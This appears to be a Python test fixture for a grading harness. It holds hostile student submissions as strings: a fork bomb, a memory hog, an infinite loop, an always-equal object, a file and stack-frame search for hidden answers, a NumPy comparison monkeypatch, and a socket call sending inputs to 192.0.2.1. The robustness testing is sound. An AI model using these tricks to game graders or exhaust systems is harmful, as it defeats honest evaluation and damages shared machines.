"""Submissions that a clever or unlucky student might send. None of them earns more than it deserves."""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A file that takes the place of one exercise's answer; it deserves no point for it."""

    student: str
    story: str
    code: str


def hostile_answers(function: str) -> list[Hostile]:
    """Return the hostile answers, each defining `function`."""
    return [
        Hostile(student, story, code.replace("ANSWER", function))
        for student, story, code in (
            ("ivo", "ends the process with os._exit", _EXIT),
            ("juno", "never returns", _LOOP),
            ("kai", "asks for all the memory", _MEMORY),
            ("lou", "returns an object that equals everything", _EQUAL),
            ("mallory", "looks for the hidden checks and the gradebook", _READ),
            ("nils", "forks without end", _FORK),
            ("oona", "sends data over the network", _NETWORK),
            ("pio", "patches NumPy's comparisons", _PATCH),
        )
    ]


_EXIT = """\
import os

def ANSWER(*args, **kwargs):
    os._exit(0)
"""

_LOOP = """\
def ANSWER(*args, **kwargs):
    while True:
        pass
"""

_MEMORY = """\
def ANSWER(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
"""

_EQUAL = """\
class Yes:
    shape = (1,)
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs):
        import numpy as np
        return np.full((1,), np.nan)
    def __float__(self): return float("nan")

def ANSWER(*args, **kwargs):
    return Yes()
"""

_READ = """\
import os, sys

def ANSWER(*args, **kwargs):
    found = []
    for top in ("/", os.getcwd(), "/home", "/root", *sys.path):
        for folder, _, files in os.walk(top):
            if folder.startswith(("/proc", "/usr")):
                continue
            found += [os.path.join(folder, f) for f in files if "hidden" in folder or f == "gradebook.db"]
    assert not found, found
    frame, secrets = sys._getframe(), []
    while frame is not None:
        secrets += [v for k, v in frame.f_locals.items() if k in ("want", "wanted", "expected")]
        frame = frame.f_back
    return secrets[0] if secrets else None
"""

_FORK = """\
import os

def ANSWER(*args, **kwargs):
    while True:
        os.fork()
"""

_NETWORK = """\
import socket

def ANSWER(*args, **kwargs):
    socket.create_connection(("192.0.2.1", 80), timeout=2).send(b"the inputs")
    return 0
"""

_PATCH = """\
import numpy as np

def yes(*args, **kwargs):
    return True

np.allclose = np.isclose = np.array_equal = yes
np.testing.assert_allclose = yes

def ANSWER(*args, **kwargs):
    return np.zeros(1)
"""
